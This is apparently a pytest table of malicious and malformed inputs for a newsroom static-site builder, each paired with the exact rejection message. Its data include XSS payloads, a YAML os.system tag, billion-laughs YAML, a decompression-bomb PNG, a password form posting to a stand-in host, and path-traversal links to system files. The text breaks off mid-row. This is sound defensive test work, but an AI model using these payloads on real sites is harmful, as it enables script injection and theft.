"""A table of bad inputs and faults: what a careless officer saves, and what an attacker would.

Each row puts a few files into a copy of the bilingual fixture (tests/roots/bilingual) and says the
exact problem lines they give, one per mistake: `path: 'field': message` or `path: message`. For
every row, the same lines come from `./dev check` (`commands.check`), from the strict build (a
`ContentError`) and on the preview build's stderr; the preview leaves out the row's own files and
publishes every other release. A few rows are not mistakes at all: what YAML 1.1 would turn into a
number or a date is published exactly as typed, and the row says what the page shows.

Rows that only touch their own files share one site, built once per mode; a row whose fault
reaches other files (a registry every release uses, a link that loops) gets a small site of its own.
"""

from __future__ import annotations

import contextlib
import datetime
import io
import logging
import os
import resource
import shutil
import signal
import struct
import subprocess
import sys
import textwrap
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from PIL import Image

from conftest import ROOT, ROOTS, build, settings_for
from newsroom import commands
from newsroom.errors import ContentError, ThemeError

FIXTURE = ROOTS / "bilingual" / "content"
ROWS = "releases/rows"  # where a row's release goes, under content/
SHOWN = f"content/{ROWS}"  # …and how the problem lines name it
TODAY = datetime.date.today()

# The fixture's releases and their pages: each must be published unless a row breaks it.
FIXTURE_PAGES = {
    "content/releases/2017/2017-10-13-კატასტროფის-დღე.ka.md": "ka/news/katastropis-dghe/",
    "content/releases/2018/2018-03-09-women-police.en.md": "en/news/women-police/",
    "content/releases/2018/2018-06-06-eu-tablets.en.md": "en/news/eu-tablets/",
    "content/releases/2018/2018-06-06-eu-tablets.ka.md": "ka/news/eu-tablets/",
    "content/releases/2019/2019-01-10-unfinished.en.md": "en/news/unfinished/",  # a draft: shown in a preview
    "content/releases/embargoed/embargoed.en.md": "en/news/embargoed/",  # embargoed: shown in a preview
}

# The fixed parts of the messages, word for word.
UTF8 = "save it as UTF-8 (in Notepad: File → Save as → Encoding: UTF-8; in Word: Plain Text, Unicode (UTF-8))"
PARTNERS = "expected one of: 'eu', 'mia', 'ncdc'"
CODE = "(the site cannot run code from a release)"
EMBED = "(a release cannot embed another page; link to it instead)"
HEAD = "(the page's head and styles come from the theme)"
LINK_TO = "link to a web page (https://…), an e-mail address (mailto:…) or a phone number (tel:…)"
PHOTO_EXAMPLE = "e.g. images/2018/conference.jpg"
SMALLER = "export it smaller (1200 pixels wide is enough)"
HIDDEN = "delete it (retype the words around it if you cannot see it)"
NOT_PHOTO = "is not a photo (JPEG, PNG or WebP); content/images/ holds only photos and logos, move or delete it"
NOT_RELEASE = "is not a release file: releases are Markdown files ending in '.md' (photos go in content/images/)"
NOT_SITE = ("is not part of the site: content/ holds releases (releases/), photos (images/), documents (files/) and "
            "partners.yml and topics.yml; move it or delete it")
LINK_OUT = "is a link to a file outside content/; put the file itself here, not a link to it"
LINKED_FOLDER = "is a link to a folder; put the folder itself here, not a link to it"
DOCUMENT_EXAMPLE = "files/2018/annual-report.pdf"
DOCUMENT_ENTRY = f"expected '- title: …' and '  file: {DOCUMENT_EXAMPLE}' lines indented under 'attachments:'"
DOCUMENT_OUTSIDE = f"is outside content/files/; put the document in content/files/ and give its path from content/, e.g. {DOCUMENT_EXAMPLE}"
EXPORT_PDF = "export it as PDF (in Word: File → Save as → PDF)"
NOT_DOCUMENT = f"is not a PDF document; content/files/ holds only the PDF documents releases attach: {EXPORT_PDF}, or move or delete it"
REPRINT = "print it to PDF again (File → Print → Save as PDF) or export it as PDF/A, which leave such content out"
NO_FRONT_MATTER = "no front-matter: the file must start with a line '---' and the metadata must end with another '---' line"


# -- the files a row writes ----------------------------------------------------------------------

@dataclass(frozen=True)
class Link:
    """A symbolic link to `target` (absolute, or relative to the folder of the link)."""

    target: str


BASE = {"title": "A release with one mistake", "date": "2020-03-02", "lang": "en", "partners": "[eu]"}


def release(body: str = "The text of the release.", *, extra: str = "", encoding: str = "utf-8", **fields) -> bytes:
    """A release file: BASE's fields (lines 2–5) with `fields` changed or added, then `extra`
    lines, then the body. With no extra field the body starts on line 7."""
    values = {**BASE, **fields}
    front = "".join(f"{name}: {value}\n" for name, value in values.items() if value is not None)
    return f"---\n{front}{extra}---\n{body}\n".encode(encoding)


def with_image(src: str, **fields) -> bytes:
    return release(extra=f"image:\n  src: {src}\n  alt: A photo from the visit\n", **fields)


def png_header(width: int, height: int) -> bytes:
    """A PNG that declares `width` × `height` pixels and holds one row: what a decompression bomb looks like."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))


def jpeg(size=(640, 480)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 90, 160)).save(out, "JPEG", quality=90)
    return out.getvalue()


def word_document() -> bytes:
    """What Word saves (a ZIP of XML), as if renamed to .md."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", "<w:document><w:body>IOM opens an office</w:body></w:document>")
    return out.getvalue()


def pdf(catalog: bytes = b"") -> bytes:
    """A real PDF (Pillow's PDF writer), with `catalog` written into its document catalog."""
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (0, 51, 160)).save(out, "PDF")
    return out.getvalue().replace(b"/Type /Catalog", b"/Type /Catalog " + catalog, 1)


def with_attachment(file: str, title: str = "The annual report", **fields) -> bytes:
    return release(extra=f"attachments:\n  - title: {title}\n    file: {file}\n", **fields)


def attached(id: str, file: str, data, *messages: str) -> Row:
    """A row of a release attaching `files/rows/<file>`, which holds `data` (None: no such file)."""
    files = {f"{ROWS}/{id}.en.md": with_attachment(f"files/rows/{file}")}
    if data is not None:
        files[f"files/rows/{file}"] = data
    return Row(id, "attachments", files, messages)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="10"/></svg>\n'
REGISTRY = (FIXTURE / "partners.yml").read_text(encoding="utf-8")
TOPICS = (FIXTURE / "topics.yml").read_text(encoding="utf-8")


# -- the rows ------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Row:
    id: str
    kind: str
    files: dict  # path under content/ → bytes, a Link, or None (the fixture's file is deleted)
    lines: tuple[str, ...]  # every problem line of the row's files, sorted as the build sorts them
    shows: dict = field(default_factory=dict)  # page URL (below the site) → the <h1> it shows
    alone: bool = False  # built in a site of its own: its fault reaches other files

    def owns(self, line: str) -> bool:
        """A line about one of the row's files (or about a file in a folder the row links to)."""
        path = line.split(": ", 1)[0]
        return any(path == own or path.startswith(own + "/") for own in (f"content/{name}" for name in self.files))


def bad(kind: str, id: str, data, *messages: str, name: str | None = None, **options) -> Row:
    """A row of one release file, `releases/rows/<id>.en.md` unless `name` says otherwise."""
    path = f"{ROWS}/{name or id + '.en.md'}"
    return Row(id, kind, {path: data}, tuple(f"content/{path}: {message}" for message in messages), **options)


def typed(kind: str, id: str, data, h1: str) -> Row:
    """A row that is not a mistake: published, its <h1> showing `h1`."""
    return Row(id, kind, {f"{ROWS}/{id}.en.md": data}, (), shows={f"en/news/{id}/": h1})


AHEAD = (TODAY + datetime.timedelta(days=3 * 365)).isoformat()
EU_TABLETS = FIXTURE / "releases/2018/2018-06-06-eu-tablets.en.md"
RESAVED = EU_TABLETS.read_text(encoding="utf-8").replace("The EU has donated", "The EU’s delegation has donated")
# A registry that cannot be read breaks every release that names one of its keys: each such line
# says which file to fix (no partner is known, so there is no list of partners to offer).
NOT_READ = "content/partners.yml could not be read, fix it first"
TOPICS_NOT_READ = "content/topics.yml could not be read, fix it first"


def every_partner(reason: str) -> tuple[str, ...]:
    """What each fixture release says when no partner can be known: `reason`."""
    return (
        f"content/releases/2017/2017-10-13-კატასტროფის-დღე.ka.md: 'partners': unknown partner 'ncdc'; {reason}",
        f"content/releases/2018/2018-03-09-women-police.en.md: 'partners': unknown partner 'mia'; {reason}",
        f"content/releases/2018/2018-06-06-eu-tablets.en.md: 'funded_by': unknown partner 'eu'; {reason}",
        f"content/releases/2018/2018-06-06-eu-tablets.en.md: 'partners': unknown partner 'mia'; {reason}",
        f"content/releases/2018/2018-06-06-eu-tablets.ka.md: 'funded_by': unknown partner 'eu'; {reason}",
        f"content/releases/2018/2018-06-06-eu-tablets.ka.md: 'partners': unknown partner 'mia'; {reason}",
        f"content/releases/2019/2019-01-10-unfinished.en.md: 'partners': unknown partner 'eu'; {reason}",
        f"content/releases/embargoed/embargoed.en.md: 'partners': unknown partner 'eu'; {reason}",
    )


TOPIC_USERS = (
    f"content/releases/2017/2017-10-13-კატასტროფის-დღე.ka.md: 'topics': unknown topic 'health'; {TOPICS_NOT_READ}",
    f"content/releases/2018/2018-03-09-women-police.en.md: 'topics': unknown topic 'policing'; {TOPICS_NOT_READ}",
    f"content/releases/2018/2018-06-06-eu-tablets.en.md: 'topics': unknown topic 'policing'; {TOPICS_NOT_READ}",
    f"content/releases/2018/2018-06-06-eu-tablets.ka.md: 'topics': unknown topic 'policing'; {TOPICS_NOT_READ}",
)


def registry_row(id: str, text: str | bytes | None, *registry_lines: str, breaks: tuple[str, ...] = (),
                 name: str = "partners.yml") -> Row:
    """A row that changes a registry, in a site of its own; `breaks`: the lines of the releases it breaks."""
    data = text.encode("utf-8") if isinstance(text, str) else text
    return Row(id, "registries", {name: data}, (*registry_lines, *breaks), alone=True)


TABLE = [
    # -- encodings and bytes -------------------------------------------------------------------
    bad("bytes", "windows-1252", release(title="IOM’s new office in Batumi", encoding="cp1252"),
        f"line 2: is not UTF-8 text (byte 0x92 ('’' in Windows-1252)); {UTF8}"),
    Row("resaved-fixture-release", "bytes", {"releases/2018/2018-06-06-eu-tablets.en.md": RESAVED.encode("cp1252")},
        (f"content/releases/2018/2018-06-06-eu-tablets.en.md: line 12: is not UTF-8 text (byte 0x92 ('’' in Windows-1252)); {UTF8}",)),
    bad("bytes", "utf-16-with-bom", release().decode().encode("utf-16"), f"is saved as UTF-16 text; {UTF8}"),
    bad("bytes", "utf-16-le-without-bom", release().decode().encode("utf-16-le"), f"is saved as UTF-16 text; {UTF8}"),
    bad("bytes", "utf-16-be-georgian", release(title="ოფისი ბათუმში", lang="ka").decode().encode("utf-16-be"),
        f"is saved as UTF-16 text; {UTF8}", name="utf-16-be-georgian.ka.md"),
    bad("bytes", "photo-named-md", (FIXTURE / "images/conference.png").read_bytes(),
        "is not a text file (it holds binary data); a release is Markdown text saved as UTF-8"),
    bad("bytes", "word-document-named-md", word_document(),
        "is not a text file (it holds binary data); a release is Markdown text saved as UTF-8"),
    bad("bytes", "nul-byte", release(body="The office\x00 opens today."),
        "is not a text file (it holds binary data); a release is Markdown text saved as UTF-8"),
    bad("bytes", "over-the-size-limit", release(body="The office opens today. " * 24_000),
        "is larger than 512 KB, more than any release or list needs; check that this is the file you meant to save, and split or shorten it"),
    bad("bytes", "empty-file", b"", NO_FRONT_MATTER),
    bad("bytes", "only-a-bom", b"\xef\xbb\xbf", NO_FRONT_MATTER),
    bad("bytes", "front-matter-not-closed", b"---\ntitle: Never closed\ndate: 2020-03-02\n\nThe text.\n", NO_FRONT_MATTER),
    typed("bytes", "utf-8-with-bom", b"\xef\xbb\xbf" + release(title="Saved by Notepad with a BOM"), "Saved by Notepad with a BOM"),
    typed("bytes", "windows-line-endings", release(title="Saved on Windows").replace(b"\n", b"\r\n"), "Saved on Windows"),

    # -- YAML ------------------------------------------------------------------------------------
    bad("yaml", "billion-laughs", release(extra=(
        'lol: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
        "lol2: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
        "lol3: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
        "lol4: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n")),
        "line 6: '&a' is a YAML anchor, which is not allowed; if the value starts with '&', put it in quotes"),
    bad("yaml", "anchor-and-alias", release(partners="&who [eu]", extra="funded_by: *who\n"),
        "line 5: '&who' is a YAML anchor, which is not allowed; if the value starts with '&', put it in quotes"),
    bad("yaml", "star-at-the-start", release(title="*Breaking* news from Batumi"),
        "line 2: malformed YAML: while scanning an alias, did not find expected alphabetic or numeric character; "
        "'*' starts a YAML alias; put a value that starts with '*' in quotes"),
    bad("yaml", "python-object-tag", release(title='!!python/object/apply:os.system ["touch /tmp/pwned"]'),
        "line 2: YAML tags ('!!python/object/apply:os.system') are not allowed; write the value without it"),
    bad("yaml", "exclamation-at-the-start", release(title="!Important: the office moves"),
        "line 2: YAML tags ('!Important:') are not allowed; if the value starts with '!', put it in quotes"),
    bad("yaml", "5000-nested-brackets", release(partners="[" * 5000),
        "line 5: lists and fields are nested more than 6 levels deep; no field needs that, check the brackets and indentation"),
    bad("yaml", "50000-nested-brackets", release(partners="[" * 50_000),
        "the front-matter is longer than 16 KB; check that the closing '---' line is where the fields end"),
    bad("yaml", "list-as-a-key", release(extra="[eu, mia]: partners\n"),
        "line 6: a list or a mapping cannot be a field name; write 'name: value'"),
    bad("yaml", "duplicate-key", release(extra="title: The same release, titled twice\n"),
        "line 6: 'title' is there twice; keep one"),
    bad("yaml", "colon-in-title", release(title="IOM: a new office in Batumi"),
        "line 2: malformed YAML: mapping values are not allowed in this context; if a value contains ': ', put the "
        'whole value in quotes, e.g. title: "IOM: a new office"'),
    bad("yaml", "tab-indentation", release(extra="image:\n\tsrc: images/conference.png\n\talt: The conference\n"),
        "line 7: malformed YAML: while scanning for the next token, found character that cannot start any token; indent with spaces, not tabs"),
    bad("yaml", "unclosed-quote", release(title='"IOM opens an office in Batumi'),
        "line 2: malformed YAML: while scanning a quoted scalar, found unexpected end of stream; a quote was opened and not closed; close it on the same line"),
    bad("yaml", "bracket-at-the-start", release(title="[Draft] IOM opens an office"),
        "line 2: malformed YAML: while parsing a block mapping, did not find expected key; put a value that starts with '[' in quotes"),
    bad("yaml", "at-sign-at-the-start", release(title="@IOMGeorgia opens an office"),
        "line 2: malformed YAML: while scanning for the next token, found character that cannot start any token; put a value that starts with '@' in quotes"),
    bad("yaml", "hash-in-title", release(title="IOM #1 in Georgia for migrant health"),
        "line 2: ' #1 in Georgia for migrant health' is a YAML comment and would be left out of the value; put the whole value in quotes"),
    bad("yaml", "front-matter-is-a-list", b"---\n- title: A list, not fields\n- date: 2020-03-02\n---\nThe text.\n",
        "the front-matter must be 'field: value' lines"),
    typed("yaml", "title-010", release(title="010"), "010"),
    typed("yaml", "title-12-30-00", release(title="12:30:00"), "12:30:00"),
    typed("yaml", "title-1-50", release(title="1.50"), "1.50"),
    typed("yaml", "title-no", release(title="No"), "No"),
    typed("yaml", "title-a-date", release(title="2018-06-06"), "2018-06-06"),
    typed("yaml", "title-0x1f", release(title="0x1F"), "0x1F"),

    # -- text ------------------------------------------------------------------------------------
    bad("text", "bidi-override-in-title", release(title="Tbilisi \u202eeciffo wen"),
        f"'title': 'Tbilisi \\u202eeciffo wen' contains an invisible character U+202E (RIGHT-TO-LEFT OVERRIDE) after 'Tbilisi '; {HIDDEN}"),
    bad("text", "zero-width-space-in-title", release(title="Tbilisi\u200b office"),
        f"'title': 'Tbilisi\\u200b office' contains an invisible character U+200B (ZERO WIDTH SPACE) after 'Tbilisi'; {HIDDEN}"),
    bad("text", "escape-sequence-in-title", release(title='"IOM \\e[31mopens\\e[0m"'),
        f"'title': 'IOM \\x1b[31mopens\\x1b[0m' contains an invisible character U+001B (ESCAPE) after 'IOM '; {HIDDEN}"),
    bad("text", "raw-control-character", release(title="IOM opens\x07 an office"),
        f"line 2: contains an invisible character U+0007 (a control character) after 'title: IOM opens'; {HIDDEN}"),
    bad("text", "line-break-in-title", release(title='"IOM opens\\nan office"'),
        "'title': 'IOM opens\\nan office' contains a line break after 'IOM opens'; write it on one line"),
    bad("text", "title-of-250-characters", release(title="A" * 250),
        "'title': is 250 characters long; at most 200 fit where it is shown, shorten it"),
    bad("text", "date-before-1951", release(date="1950-12-31"),
        "'date': '1950-12-31' is before IOM was founded (1951); check the year"),
    bad("text", "date-three-years-ahead", release(date=AHEAD),
        f"'date': '{AHEAD}' is more than a year from now; an embargoed release carries the day it may be published, check the year"),
    bad("text", "day-month-year", release(date="02.03.2020"),
        "'date': '02.03.2020' is not a date; expected YYYY-MM-DD, e.g. 2018-06-06, or YYYY-MM or YYYY when the day is not known"),
    bad("text", "february-29-2019", release(date="2019-02-29"),
        "'date': '2019-02-29' is not a real date (day is out of range for month); expected YYYY-MM-DD, e.g. 2018-06-06, or YYYY-MM or YYYY when the day is not known"),
    bad("text", "draft-yes", release(draft="yes"), "'draft': 'yes' is not true or false; write true or false"),
    bad("text", "partners-without-brackets", release(partners="eu, mia"),
        "'partners': 'eu, mia' is not a list; write the partners in brackets: [eu, mia]"),
    bad("text", "video-javascript", release(video="javascript:alert(1)"),
        "'video': 'javascript:alert(1)' is not a secure web address; expected https://…"),
    bad("text", "bidi-override-in-body", release(body="The office in Tbilisi \u202eopens today."),
        f"'body': line 7: contains an invisible character U+202E (RIGHT-TO-LEFT OVERRIDE) after 'e office in Tbilisi '; {HIDDEN}"),
    bad("text", "escape-sequence-in-body", release(body="The office opens \x1b[2J today."),
        f"'body': line 7: contains an invisible character U+001B (ESCAPE) after 'The office opens '; {HIDDEN}"),
    bad("text", "no-words-in-the-file-name", release(),
        "'slug': the file name gives no usable URL name (no words left once the date, language tag and '.md' are removed); "
        "set 'slug: words-in-latin-letters'", name="2020-03-02.en.md"),
    typed("text", "script-in-title", release(title='"</script><script>alert(1)</script>"'), "</script><script>alert(1)</script>"),
    typed("text", "template-in-title", release(title='"{{ 7 * 7 }} {% raw %}"'), "{{ 7 * 7 }} {% raw %}"),
    Row("slug-climbs-out", "text", {f"{ROWS}/slug-climbs-out.en.md": release(slug="../../../escaped")}, (),
        shows={"en/news/escaped/": "A release with one mistake"}),

    # -- HTML in bodies and summaries ------------------------------------------------------------
    bad("html", "script", release(body="Read more.\n<script>alert(1)</script>"),
        f"'body': line 8: the <script> element is not allowed in a release; remove it {CODE}"),
    bad("html", "img-onerror", release(body='<img src="images/conference.png" onerror="alert(1)">'),
        f"'body': line 7: 'onerror' on <img> is not allowed in a release; remove it {CODE}"),
    bad("html", "javascript-link", release(body="[Click here](javascript:alert(1))"),
        f"'body': line 7: link to 'javascript:alert(1)' is not allowed in a release; {LINK_TO}"),
    bad("html", "javascript-link-mixed-case", release(body="[Click here](JaVaScRiPt:alert(1))"),
        f"'body': line 7: link to 'JaVaScRiPt:alert(1)' is not allowed in a release; {LINK_TO}"),
    bad("html", "javascript-link-as-entities", release(body='<a href="&#106;avascript&#58;alert(1)">Click here</a>'),
        f"'body': line 7: link to 'javascript:alert(1)' is not allowed in a release; {LINK_TO}"),
    bad("html", "javascript-link-with-a-tab", release(body='<a href="java&#x09;script:alert(1)">Click here</a>'),
        f"'body': line 7: link to 'java\\tscript:alert(1)' is not allowed in a release; {LINK_TO}"),
    bad("html", "iframe", release(body='<iframe src="https://evil.example/"></iframe>'),
        f"'body': line 7: the <iframe> element is not allowed in a release; remove it {EMBED}"),
    bad("html", "meta-refresh", release(body='<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
        f"'body': line 7: the <meta> element is not allowed in a release; remove it {HEAD}"),
    bad("html", "object", release(body='<object data="https://evil.example/x.swf"></object>'),
        f"'body': line 7: the <object> element is not allowed in a release; remove it {EMBED}"),
    bad("html", "form", release(body='<form action="https://evil.example/collect"></form>'),
        "'body': line 7: the <form> element is not allowed in a release; remove it (a release cannot hold a form; link to the form instead)"),
    bad("html", "form-with-a-field", release(body='<form action="https://evil.example/collect"><input name="password"></form>'),
        "'body': line 7: the <form> element is not allowed in a release; remove it (a release cannot hold a form; link to the form instead)"),
    bad("html", "style-element", release(body="<style>body { display: none }</style>"),
        f"'body': line 7: the <style> element is not allowed in a release; remove it {HEAD}"),
    bad("html", "style-attribute", release(body='<p style="position: fixed; top: 0">Breaking</p>'),
        "'body': line 7: 'style' on <p> is not allowed in a release; remove it (the theme sets the look of the page; "
        "align a table's column with :--- or ---: in Markdown)"),
    bad("html", "attr-list-onclick", release(body='Click me\n{: onclick="alert(1)" }'),
        f"'body': line 8: 'onclick' on <p> is not allowed in a release; remove it {CODE}"),
    bad("html", "data-image", release(body="![Logo](data:image/png;base64,iVBORw0KGgo=)"),
        "'body': line 7: image 'data:image/png;base64,iVBORw0KGgo=' is not a file of the site; put the photo in content/images/ and refer to it from there"),
    bad("html", "image-from-another-site", release(body="![Pixel](https://tracker.example/pixel.gif)"),
        "'body': line 7: image 'https://tracker.example/pixel.gif' is not a file of the site; put the photo in content/images/ and refer to it from there"),
    bad("html", "http-link", release(body="See [IOM](http://www.iom.int/)."),
        "'body': line 7: link to 'http://www.iom.int/' is not encrypted; write 'https://www.iom.int/' instead, or leave the link out"),
    bad("html", "protocol-relative-link", release(body='<a href="//evil.example/">IOM</a>'),
        "'body': line 7: link to '//evil.example/' has no scheme; write 'https://evil.example/' in full"),
    bad("html", "file-link", release(body="[Passwords](file:///etc/passwd)"),
        f"'body': line 7: link to 'file:///etc/passwd' is not allowed in a release; {LINK_TO}"),
    bad("html", "svg-in-body", release(body='<svg onload="alert(1)"><circle r="10"/></svg>'),
        "'body': line 7: the <svg> element is not allowed in a release; remove it (make a drawing or a formula a picture "
        "in content/images/ and refer to it from there)"),
    bad("html", "heading-one-in-body", release(body="# Background\n\nThe office opens today."),
        "'body': line 7: the <h1> element is not allowed in a release; the page already has the title as its heading, so use ## for a heading in the text"),
    bad("html", "raw-html-in-summary", release(summary="<b>Bold</b> claims"),
        "'summary': the <b> element is not allowed in a release; remove it and write the text in Markdown"),
    bad("html", "script-in-summary", release(summary='"<script>alert(1)</script> Read on"'),
        f"'summary': the <script> element is not allowed in a release; remove it {CODE}"),
    bad("html", "html-comment", release(body="The office opens today.\n\n<!-- internal: the minister may not come -->"),
        "'body': line 9: an HTML comment is not allowed in a release; remove it (anyone can read it in the page's source)"),
    bad("html", "renders-to-nothing", release(body="&nbsp;"),
        "'body': shows no text once converted (only markup or comments); write the release's text after the front-matter"),
    # a photo in the text is published as a photo is: resized variants (tests/browser/test_photos.py)
    typed("html", "photo-in-the-body", release(body="The office opens today.\n\n![The office](images/conference.png)"),
          "A release with one mistake"),
    typed("html", "static-photo-in-the-body", release(body="The office opens today.\n\n![The office]({static}/images/conference.png)"),
          "A release with one mistake"),
    bad("html", "photo-in-the-body-outside-images", release(body="The office opens today.\n\n![The office](../../partners.yml)"),
        "'body': line 9: '../../partners.yml' is outside content/images/; put the photo in content/images/ and give its path "
        "from content/, e.g. images/2018/conference.jpg"),
    bad("html", "link-to-a-release-that-is-not-there", release(body="As [announced]({filename}/releases/2018/missing.en.md)."),
        "'body': line 7: link to '{filename}/releases/2018/missing.en.md' names no release file in content/; check the path "
        "from content/, e.g. {filename}/releases/2018/2018-06-06-eu-tablets-for-policing.en.md"),
    bad("html", "link-to-a-file-of-content", release(body="The [report]({static}/docs/report.pdf)."),
        "'body': line 7: link to '{static}/docs/report.pdf': no file of content/ is published as it is; link to another release "
        "with {filename}, e.g. {filename}/releases/2018/2018-06-06-eu-tablets-for-policing.en.md, or to a document on the web (https://…); "
        "to publish a PDF with the release, list it under 'attachments:'"),
    bad("html", "50000-open-brackets-in-body", release(body="[" * 50_000),
        "'body': has 50000 '[' that are never closed; a link is written [words](https://…), check that the text is what you meant to paste"),
    bad("html", "2000-open-tags-in-body", release(body="a <x " * 2000),
        "'body': has 2000 '<' that open a tag never closed with '>'; write &lt; for a '<' in the text, and check that it is what you meant to paste"),
    bad("html", "only-a-zero-width-space", release(body="\u200b"),
        "'body': the release has no text after the front-matter"),

    # -- file names and layout -------------------------------------------------------------------
    bad("layout", "upper-case-ending", release(), "ends in '.MD'; rename it to end in '.md' (lower case), or it is not read",
        name="upper-case-ending.en.MD"),
    bad("layout", "upper-case-language-tag", release(),
        "has the language tag '.EN'; rename it with the tag in lower case ('.en.md')", name="upper-case-language-tag.EN.md"),
    bad("layout", "georgian-file-declaring-english", release(),
        "'lang': 'en' disagrees with the file name, which ends in '.ka.md'; give the file the ending of its language ('.en.md') or correct 'lang'",
        name="georgian-file-declaring-english.ka.md"),
    bad("layout", "html-among-releases",
        b"<html><head><title>Old release</title></head><body><script>alert(1)</script>An old release</body></html>\n",
        NOT_RELEASE, name="html-among-releases.html"),
    bad("layout", "rst-among-releases", b"An old release\n==============\n\n:date: 2020-03-02\n\nThe text.\n",
        NOT_RELEASE, name="rst-among-releases.rst"),
    bad("layout", "word-document-among-releases", word_document(), NOT_RELEASE, name="word-document-among-releases.docx"),
    Row("stray-text-file", "layout", {"notes-for-the-officer.txt": b"Remember to ask the minister.\n"},
        (f"content/notes-for-the-officer.txt: {NOT_SITE}",)),
    Row("release-outside-releases", "layout", {"release-outside-releases.en.md": release()},
        (f"content/release-outside-releases.en.md: {NOT_SITE}",)),
    Row("script-among-images", "layout", {"images/rows/tracker.js": b"alert(1);\n"},
        (f"content/images/rows/tracker.js: {NOT_PHOTO}",)),
    Row("svg-among-images", "layout", {"images/rows/drawing.svg": SVG}, (f"content/images/rows/drawing.svg: {NOT_PHOTO}",)),
    Row("windows-thumbnails", "layout", {"images/rows/Thumbs.db": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 56},
        (f"content/images/rows/Thumbs.db: {NOT_PHOTO}",)),
    bad("layout", "link-to-etc-hostname", Link("/etc/hostname"), LINK_OUT),
    Row("link-to-a-folder-outside", "layout", {f"{ROWS}/link-to-a-folder-outside": Link("../../../outside")},
        (f"{SHOWN}/link-to-a-folder-outside: {LINKED_FOLDER}",)),
    Row("link-loop", "layout", {f"{ROWS}/link-loop": Link("..")}, (f"{SHOWN}/link-loop: {LINKED_FOLDER}",), alone=True),
    Row("hidden-draft", "layout", {f"{ROWS}/.draft.md": release()}, ()),
    Row("hidden-folder", "layout", {f"{ROWS}/.old/hidden-folder.en.md": release()}, ()),
    Row("editor-backup", "layout", {f"{ROWS}/editor-backup.en.md~": release()}, ()),
    Row("emacs-lock-file", "layout", {f"{ROWS}/#emacs-lock-file.en.md#": release()}, ()),

    # -- registries (each in a site of its own) --------------------------------------------------
    registry_row("registry-duplicate-key", REGISTRY + "eu:\n  name: {en: Again, ka: ისევ}\n",
                 "content/partners.yml: line 8: 'eu' is there twice; keep one", breaks=every_partner(NOT_READ)),
    registry_row("registry-windows-1252", REGISTRY.replace("European Union", "Union européenne").encode("cp1252", errors="replace"),
                 f"content/partners.yml: line 2: is not UTF-8 text (byte 0xE9 ('é' in Windows-1252)); {UTF8}",
                 breaks=every_partner(NOT_READ)),
    registry_row("registry-list-as-key", REGISTRY + "[eu, mia]:\n  name: {en: Both, ka: ორივე}\n",
                 "content/partners.yml: line 8: a list or a mapping cannot be a field name; write 'name: value'",
                 breaks=every_partner(NOT_READ)),
    registry_row("registry-deleted", None, breaks=every_partner("there is no content/partners.yml; create it and name the partners there")),
    registry_row("topics-duplicate-key", TOPICS + "health:\n  name: {en: Health, ka: ჯანმრთელობა}\n",
                 *TOPIC_USERS, "content/topics.yml: line 5: 'health' is there twice; keep one", name="topics.yml"),
    registry_row("registry-javascript-url", REGISTRY.replace("https://eu.example.net/", "javascript:alert(1)"),
                 "content/partners.yml: 'eu.url': 'javascript:alert(1)' is not a secure web address; expected https://…"),
    registry_row("registry-http-url", REGISTRY.replace("https://eu.example.net/", "http://eu.example.net/"),
                 "content/partners.yml: 'eu.url': 'http://eu.example.net/' is not a secure web address; expected https://…"),
    registry_row("registry-script-in-name", REGISTRY.replace("{en: European Union,", '{en: "<script>alert(1)</script>",'),
                 "content/partners.yml: 'eu.name.en': '<script>alert(1)</script>' contains '<' or '>'; a name is plain text, write it without them",
                 # the releases that name it wait for the fix: its name is never shown
                 breaks=tuple(f"content/releases/{name}: '{field}': the partner 'eu' has a name that cannot be shown; "
                              "fix it in content/partners.yml (its own line says how)"
                              for name, field in (("2018/2018-06-06-eu-tablets.en.md", "funded_by"), ("2018/2018-06-06-eu-tablets.ka.md", "funded_by"),
                                                  ("2019/2019-01-10-unfinished.en.md", "partners"), ("embargoed/embargoed.en.md", "partners")))),
    registry_row("registry-unknown-field", REGISTRY.replace("  url: https://eu.example.net/", "  website: https://eu.example.net/"),
                 "content/partners.yml: 'eu.website': unknown field; expected one of: 'logo', 'name', 'url'"),
    Row("registry-svg-logo", "registries",
        {"partners.yml": REGISTRY.replace("  url: https://eu.example.net/\n", "  url: https://eu.example.net/\n  logo: images/partners/eu.svg\n").encode(),
         "images/partners/eu.svg": SVG},
        ("content/images/partners/eu.svg: " + NOT_PHOTO,
         "content/partners.yml: 'eu.logo': 'images/partners/eu.svg' is an SVG drawing, which can carry script; give the logo as PNG"),
        alone=True),
    bad("registries", "unknown-partner", release(partners="[iom]"), f"'partners': unknown partner 'iom'; {PARTNERS}"),
    bad("registries", "partner-by-its-name", release(partners="[European Union]"),
        f"'partners': unknown partner 'European Union'; 'European Union' is the name of 'eu': write its key, 'eu'. {PARTNERS}"),
    bad("registries", "partner-by-its-georgian-name", release(partners="[ევროკავშირი]", lang="ka"),
        f"'partners': unknown partner 'ევროკავშირი'; 'ევროკავშირი' is the name of 'eu': write its key, 'eu'. {PARTNERS}",
        name="partner-by-its-georgian-name.ka.md"),

    # -- images ----------------------------------------------------------------------------------
    bad("images", "image-climbs-out", with_image("../../../../etc/hostname"),
        f"'image.src': '../../../../etc/hostname' is outside content/images/; put the photo in content/images/ and give its path from content/, {PHOTO_EXAMPLE}"),
    bad("images", "image-absolute-path", with_image("/etc/hostname"),
